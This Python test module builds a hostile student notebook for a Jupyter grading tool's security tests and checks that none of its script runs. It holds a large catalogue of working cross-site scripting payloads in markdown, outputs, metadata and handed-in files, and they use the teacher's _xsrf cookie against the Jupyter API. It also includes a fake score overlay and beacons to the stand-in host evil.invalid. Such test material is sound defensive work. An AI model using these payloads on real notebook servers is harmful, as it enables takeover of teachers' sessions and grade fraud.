"""What a hostile student puts in a submission to run script in the teacher's browser (tests only).

Every vector carries :func:`payload`, a script that, if it ever runs, marks the page it runs in
(and its parent and top window) by adding the vector's name to the attribute :data:`MARKER`, writes the
file ``pwned-<vector>.txt`` through the teacher's Jupyter API with the page's ``_xsrf`` cookie
(what the real attack does next: that API also starts terminals), and asks for
``http://evil.invalid/<vector>``, a request that leaves the page's origin. A test that opened a
page and finds none of the three has shown that nothing ran.

:func:`make_hostile` plants the notebook's vectors: markdown cells (raw HTML, SVG, event
handlers, frames, objects, styles, refreshes, ``javascript:`` and ``data:`` links, remote
images, TeX commands, attachments), a raw cell, a code cell whose outputs are every MIME type
a kernel can emit (it runs in the sandbox while the notebook is graded), an error whose message
is HTML, notebook metadata (title, widget state, language) and cell metadata (tags); plus honest
content (text, maths, a table, a PNG figure) that must still show. :func:`plant_files` hands
in files beside the notebook.
"""
from __future__ import annotations

import base64
from pathlib import Path
import struct
import zlib

import nbformat

MARKER = "data-mwm-pwned"
EVIL = "evil.invalid"
#: Text the honest parts of the hostile notebook show; a teacher must still read them.
HONEST_TEXT = "My working, step by step"
HONEST_MATH = r"$h_1 = \tanh(w\,h_0 + u\,x_1 + b)$"
FIGURE_SIZE = (40, 20)
WIDGET_ID = "0123456789abcdef0123456789abcdef"


def payload(vector: str) -> str:
    """The script of one vector: single-quoted JavaScript with no double quote, ``<`` or ``>``."""
    return (
        "(function(){var v='%s';var ws=[window];try{ws.push(window.parent)}catch(e){}try{ws.push(window.top)}catch(e){}"
        "ws.forEach(function(w){try{var d=w.document.documentElement;d.setAttribute('%s',(d.getAttribute('%s')||'')+' '+v)}catch(e){}"
        "try{var p=w.location.pathname,i=Math.max(p.indexOf('/formgrader'),p.indexOf('/lab'),p.indexOf('/files/'),"
        "p.indexOf('/notebooks/'));var b=i>0?p.slice(0,i):'';var m=w.document.cookie.match(/_xsrf=([^;]+)/);"
        "w.fetch(w.location.origin+b+'/api/contents/pwned-'+v+'.txt',{method:'PUT',credentials:'include',"
        "headers:{'X-XSRFToken':m?decodeURIComponent(m[1]):'','Content-Type':'application/json'},"
        "body:JSON.stringify({type:'file',format:'text',content:v})})}catch(e){}});"
        "try{new Image().src='http://%s/'+v}catch(e){}})()" % (vector, MARKER, MARKER, EVIL))
    # (no double quotes inside, so it can sit in any double-quoted attribute)


def short_payload(vector: str) -> str:
    """A payload with no ``/``, ``,``, ``{`` or ``}`` (for TeX, tags and file names): marks the top window only."""
    return "top.document.documentElement.dataset.mwmPwned+=' %s'" % vector


def onerror(vector: str) -> str:
    """An image whose error handler is the vector's payload."""
    return f'<img src=x onerror="{payload(vector)}">'


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def png(width: int, height: int, rgb=(31, 119, 180)) -> bytes:
    """A real PNG image of one colour."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def svg(vector: str) -> str:
    p = payload(vector)
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{p}">'
            f'<script>{p}</script><rect width="20" height="20" fill="green"/></svg>')


def markdown_vectors() -> dict[str, str]:
    """Vector name -> a markdown cell's source."""
    P = payload
    html_doc = _b64(f"<script>{P('md-object')}</script>")
    return {
        "md-img-onerror": onerror("md-img-onerror"),
        "md-svg-script": f"<svg><script>{P('md-svg-script')}</script></svg>",
        "md-svg-onload": f'<svg onload="{P("md-svg-onload")}"></svg>',
        "md-details": f'<details open ontoggle="{P("md-details")}"><summary>more</summary>hidden</details>',
        "md-iframe-srcdoc": f'<iframe srcdoc="<script>{P("md-iframe-srcdoc")}</script>"></iframe>',
        "md-iframe-js": f'<iframe src="javascript:{P("md-iframe-js")}"></iframe>',
        "md-object": f'<object data="data:text/html;base64,{html_doc}"></object>',
        "md-embed": f'<embed src="data:image/svg+xml;base64,{_b64(svg("md-embed"))}">',
        "md-style": "<style>body, .navbar, .panel { background: rgb(255, 0, 0) !important; }</style>",
        "md-style-attr": ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
                          'background:rgb(255,0,0);z-index:99999">covered</div>'),
        "md-meta-refresh": f'<meta http-equiv="refresh" content="0;url=http://{EVIL}/md-meta-refresh">',
        "md-js-link": (f"[click me](javascript:{short_payload('md-js-link')}) and "
                       f'<a href="javascript:{P("md-js-link")}">or me</a>'),
        "md-data-link": f"[a page](data:text/html;base64,{_b64('<script>' + P('md-data-link') + '</script>')})",
        "md-remote-img": f"![tracker](http://{EVIL}/md-remote-img.png)",
        "md-link-css": f'<link rel="stylesheet" href="http://{EVIL}/md-link-css.css">',
        "md-base": f'<base href="http://{EVIL}/md-base/">',
        "md-form": (f'<form action="http://{EVIL}/md-form"><input name="a" autofocus '
                    f'onfocus="{P("md-form")}"><button>send</button></form>'),
        "md-math": (r"$\href{javascript:" + short_payload("md-math") + r"}{click the maths}$ and "
                    r"$\style{background: rgb(255,0,0)}{x}$ and $\class{navbar-fixed-top}{y}$"),
        "md-mxss": (f'<math><mtext><table><mglyph><style><img src=x onerror="{P("md-mxss")}">'
                    "</style></mglyph></table></mtext></math>"),
        "md-svg-use": f'<svg><use href="data:image/svg+xml;base64,{_b64(svg("md-svg-use"))}#x"/></svg>',
        "md-attachment": "![a](attachment:evil.svg) ![b](attachment:evil.html) ![c](attachment:missing.png)",
        "md-handed-in": '<img src="notes.svg"> <img src="notes.html"> <script src="notes.js"></script>',
        "md-myst-iframe": f":::{{iframe}} http://{EVIL}/md-myst-iframe\n:width: 100%\n:::",
        # maths drawn far outside its cell, over the page's score boxes, with a fake verdict
        "md-math-overlay": (r"Here is my answer. $\smash{\lower{1.5em}{\rlap{\color{white}{\rule{120em}{18em}}}"
                            r"\rlap{\raise{-3em}{\color{green}{\text{Problem 1 (a): right -- Score: 3 / 3}}}}}}$"),
    }


def output_cell_source() -> str:
    """A code cell (run in the sandbox while grading) that displays every MIME type a kernel can emit."""
    P = payload
    png_b64 = base64.b64encode(png(*FIGURE_SIZE)).decode()
    widget_id = WIDGET_ID
    lines = [
        "from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display",
        "import base64",
        f"display(HTML({onerror('out-html')!r}))",
        f"display(Javascript({P('out-js')!r}))",
        f"display(Markdown({onerror('out-markdown')!r}))",
        f"display(SVG({svg('out-svg')!r}))",
        f"display(Latex({'$x$ ' + onerror('out-latex')!r}))",
        f"display({{'application/vnd.jupyter.widget-view+json': {{'version_major': 2, 'version_minor': 0, "
        f"'model_id': {widget_id!r}}}, 'text/plain': 'a widget'}}, raw=True)",
        f"display({{'text/html': {'<script>' + P('out-isolated') + '</script>'!r}}}, raw=True, "
        f"metadata={{'text/html': {{'isolated': True}}}})",
        f"display({{'image/png': {png_b64!r}}}, raw=True, "
        f"metadata={{'image/png': {{'width': {'1 onerror=' + chr(34) + P('out-png-meta') + chr(34)!r}}}}})",
        "display({'text/vnd.mermaid': 'graph TD; A-->B', 'text/plain': 'a diagram'}, raw=True)",
        f"display({{'application/x-mwm-evil': {P('out-vendor')!r}, 'text/html': '<b>bold and fine</b>'}}, raw=True)",
        f"print({onerror('out-stream')!r})",
        f"display(Image(data=base64.b64decode({png_b64!r})))  # the honest figure",
    ]
    return "\n".join(lines)


def widget_state(vector: str) -> dict:
    """Notebook metadata holding an HTML widget whose value is script."""
    value = onerror(vector)
    return {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {
        WIDGET_ID: {
            "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0", "model_name": "HTMLModel",
            "state": {"value": value, "description": "", "layout": "IPY_MODEL_fedcba9876543210fedcba9876543210",
                      "style": "IPY_MODEL_00000000000000000000000000000001"}},
        "fedcba9876543210fedcba9876543210": {
            "model_module": "@jupyter-widgets/base", "model_module_version": "2.0.0", "model_name": "LayoutModel",
            "state": {}},
        "00000000000000000000000000000001": {
            "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
            "model_name": "HTMLStyleModel", "state": {}}}}}


def make_hostile(nb, raising: bool = True):
    """Plant every notebook vector in ``nb`` (a student's fetched notebook), after its first cell.

    Args:
        nb: the notebook (changed in place).
        raising: also add a cell that raises an error whose message is HTML (a validation run
            then reports one more failing cell).

    Returns:
        list of the vectors' names.
    """
    v4 = nbformat.v4
    cells = [v4.new_markdown_cell(f"**{HONEST_TEXT}.** The state is {HONEST_MATH}.\n\n"
                                  "| step | state |\n|---|---|\n| 1 | 0.25 |\n")]
    vectors = markdown_vectors()
    for name, source in vectors.items():
        cell = v4.new_markdown_cell(source)
        if name == "md-attachment":
            cell.attachments = {"evil.svg": {"image/svg+xml": _b64(svg("md-attachment-svg"))},
                                "evil.html": {"text/html": _b64(f"<script>{payload('md-attachment-html')}</script>")}}
        if name == "md-img-onerror":
            cell.metadata["tags"] = [f'x" onmouseover="{short_payload("cell-tags")}']
        cells.append(cell)
    cells.append(v4.new_raw_cell(f"<script>{payload('raw-cell')}</script>" + onerror("raw-cell"),
                                 metadata={"raw_mimetype": "text/html"}))
    code = v4.new_code_cell(output_cell_source())
    # outputs written into the file by hand, as the student hands it in (grading replaces them by
    # what the cell really shows; a teacher opening submitted/ in JupyterLab sees these)
    code.outputs = [
        v4.new_output("display_data", data={"text/html": onerror("in-file-html"), "text/plain": "html"}),
        v4.new_output("display_data", data={"application/javascript": payload("in-file-js"), "text/plain": "js"}),
        v4.new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {
            "version_major": 2, "version_minor": 0, "model_id": WIDGET_ID}, "text/plain": "a widget"}),
        v4.new_output("display_data", data={"text/markdown": onerror("in-file-markdown"), "text/plain": "md"}),
        v4.new_output("display_data", data={"image/svg+xml": svg("in-file-svg"), "text/plain": "svg"}),
        v4.new_output("display_data", data={"application/vnd.vegalite.v5+json": {
            "$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"url": f"http://{EVIL}/in-file-vega"},
            "mark": "point", "encoding": {"x": {"field": "a"}}}, "text/plain": "a chart"}),
    ]
    cells.append(code)
    names = [*vectors, "md-attachment-svg", "md-attachment-html", "cell-tags", "raw-cell", "out-html", "out-js",
             "out-markdown", "out-svg", "out-latex", "out-isolated", "out-png-meta", "out-vendor", "out-stream",
             "nb-title", "nb-widgets", "nb-language",
             "in-file-html", "in-file-js", "in-file-markdown", "in-file-svg", "in-file-vega"]
    if raising:
        cells.append(v4.new_code_cell(f"raise ValueError({onerror('out-error')!r})"))
        names.append("out-error")
    nb.cells[1:1] = cells
    # the overlay goes right before the first hand-in cell, whose score it tries to cover
    overlay = next(c for c in cells if c.source.startswith("Here is my answer."))
    first = next((i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade") and
                  c.metadata["nbgrader"].get("grade_id", "").endswith("-test")), None)
    if first is not None:
        nb.cells.remove(overlay)
        first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade") and
                     c.metadata["nbgrader"].get("grade_id", "").endswith("-test"))
        nb.cells.insert(first, overlay)
    nb.metadata["title"] = f"</title><script>{payload('nb-title')}</script>"
    nb.metadata["widgets"] = widget_state("nb-widgets")
    nb.metadata.setdefault("language_info", {})["name"] = f'python"><script>{payload("nb-language")}</script>'
    return names


def plant_files(folder) -> list[str]:
    """Hand in files beside the notebook in ``folder``; returns their names (``fig.png`` is honest)."""
    from pathlib import Path

    folder = Path(folder)
    files = {
        "notes.html": f"<html><body><h1>notes</h1><script>{payload('file-html')}</script></body></html>",
        "notes.htm": onerror("file-htm"),
        "notes.svg": svg("file-svg"),
        "notes.js": payload("file-js"),
        "page.xhtml": (f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{payload("file-xhtml")}'
                       "</script></body></html>"),
    }
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    (folder / "fig.png").write_bytes(png(*FIGURE_SIZE))
    return [*files, "fig.png"]



class Watch:
    """What a browser's pages did: the vectors that marked a frame, requests that left, files written.

    Args:
        inside: ``inside(url)`` is True for an address of the site under test (not recorded).
        folders: where a vector's write through the Jupyter API would land (searched for ``pwned-*``).
    """

    def __init__(self, inside, folders):
        self.inside, self.folders = inside, [Path(f) for f in folders]
        self.foreign: list[str] = []
        self.ran: dict[str, list[str]] = {}

    def route(self, route):
        """A Playwright route handler for requests that leave the site: recorded and refused."""
        try:
            where = route.request.frame.url
        except Exception:  # noqa: BLE001 - a service worker's request has no frame
            where = "?"
        self.foreign.append(f"{route.request.url} (from {where})")
        route.abort()

    def settle(self, page, seconds=1.5):
        """Give a page's event handlers and requests time to run."""
        page.wait_for_timeout(seconds * 1000)

    def markers(self, page, where: str) -> set[str]:
        """Every vector's mark on any frame of ``page``, recorded under ``where``."""
        found = set()
        for frame in page.frames:
            try:
                mark = frame.evaluate(f"() => document.documentElement.getAttribute('{MARKER}')")
            except Exception:  # noqa: BLE001 - a frame that went away, or one of another origin
                continue
            if mark:
                found.update(name for name in mark.split() if name != "undefined")
        if found:
            self.ran.setdefault(where, []).extend(sorted(found))
        return found

    def written(self) -> list[str]:
        """The files ``pwned-*`` a vector wrote, under any of the folders."""
        return sorted(str(p) for folder in self.folders for p in folder.rglob("pwned-*"))

    def forget_writes(self):
        for name in self.written():
            Path(name).unlink()
